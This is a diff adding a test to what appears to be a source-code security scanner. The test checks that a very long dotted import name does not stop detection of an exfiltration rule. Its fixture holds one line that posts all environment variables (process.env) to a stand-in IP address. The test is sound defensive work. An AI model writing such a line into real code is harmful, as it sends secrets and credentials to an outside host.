@@ -69,3 +69,13 @@ test.each([
   );
   expect(findings.map(({ rule }) => rule)).toEqual(['exfiltration']);
 });
+
+test('a name of many parts keeps nothing of its file from being followed', async () => {
+  await prepare(new Set(['javascript']));
+  const text = `fetch('http://203.0.113.7/', { body: JSON.stringify(process.env) });\nimport it = a${'.b'.repeat(20_000)};\n`;
+  const { findings } = scanFile(
+    { path: 'a.ts', language: 'javascript', text, bytes: new TextEncoder().encode(text) },
+    { indicators: false },
+  );
+  expect(findings.map(({ rule }) => rule)).toContain('exfiltration');
+});
